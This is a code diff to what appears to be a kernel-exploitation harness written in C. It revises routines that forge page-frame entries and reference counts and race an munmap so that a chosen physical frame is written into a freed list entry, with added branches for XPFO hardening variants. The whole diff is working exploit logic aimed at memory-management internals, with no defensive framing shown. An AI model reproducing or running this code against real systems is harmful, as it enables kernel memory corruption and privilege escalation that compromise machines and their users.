@@ -4,6 +4,7 @@
  */
 #include "attack.h"
 
+#include <stdbool.h>
 #include <string.h>
 #include <sys/mman.h>
 
@@ -171,22 +172,6 @@ static uint64_t find_distance(uint64_t regs)
 	return 0;
 }
 
-/* What is freed must have as many references as the kernel takes away. */
-static void forge_entry(uint64_t refs)
-{
-	store(frame_entry(target.pfn), (round.last.entry[0] & ~(FRAME_HIDDEN | FRAME_REFS)) |
-					       (before.notes.entry[0] & FRAME_HIDDEN) | refs);
-}
-
-static void forge_list(uint64_t place)
-{
-	store(place, target.pfn << 32 | (round.pair & UINT32_MAX));
-	if ((load(frame_entry(round.last_pfn)) & FRAME_REFS) == 0) {
-		forge_entry(0);
-	}
-	nr_stores++;
-}
-
 /* It is the pool's, or says what was forged: it is not among the free ones that were looked at in
  * vain, nor anything else by now. */
 static bool is_untaken(void)
@@ -197,19 +182,52 @@ static bool is_untaken(void)
 	       owner == (round.last.entry[0] & FRAME_OWNER);
 }
 
+/*
+ * Where freeing zeroes, there is time to wait until the list has given up its references: what is
+ * freed then has none. Elsewhere the frame has one to give up.
+ */
+static bool waits(void)
+{
+	return bw_option_is("xpfo", "epoch") || bw_option_is("xpfo", "sync") ||
+	       bw_option_is("xpfo", "pageblock") || bw_option_is("xpfo", "v1");
+}
+
+/* As the last frame's entry, which is free when it has lost its references. */
+static void forge_entry(void)
+{
+	uint64_t cleared = FRAME_HIDDEN | (waits() ? FRAME_REFS : 0);
+
+	store(frame_entry(target.pfn),
+	      (round.last.entry[0] & ~cleared) | (before.notes.entry[0] & FRAME_HIDDEN));
+}
+
+/* What a munmap before this one has left there must not be taken for this one's. */
+static void clear(uint64_t place)
+{
+	if (load(place) == round.pair) {
+		store(place, 0);
+	}
+}
+
 /* As long as the other one is on its way. */
 static void attack_list(unsigned int nr, uint64_t place)
 {
-	bool goes_on = is_untaken();
+	uint64_t dropped = round.last.entry[0] & ~FRAME_REFS;
+	bool goes_on = is_untaken(), is_there = false, is_dropped = !waits();
 
 	nr_stores = 0;
 	if (goes_on) {
-		forge_entry(round.last.entry[0] & FRAME_REFS);
+		clear(place);
+		forge_entry();
 	}
 	tell(nr, STAGE_UNMAP);
 	while (goes_on && stage < nr * NR_STAGES + STAGE_UNMAPPED) {
-		if (load(place) == round.pair) {
-			forge_list(place);
+		is_there = is_there || load(place) == round.pair;
+		is_dropped = is_dropped || load(frame_entry(round.last_pfn)) == dropped;
+		if (is_there && is_dropped) {
+			store(place, target.pfn << 32 | (round.pair & UINT32_MAX));
+			nr_stores++;
+			goes_on = false;
 		}
 	}
 	attack_await(&stage, nr * NR_STAGES + STAGE_UNMAPPED, AWAIT_SPIN);
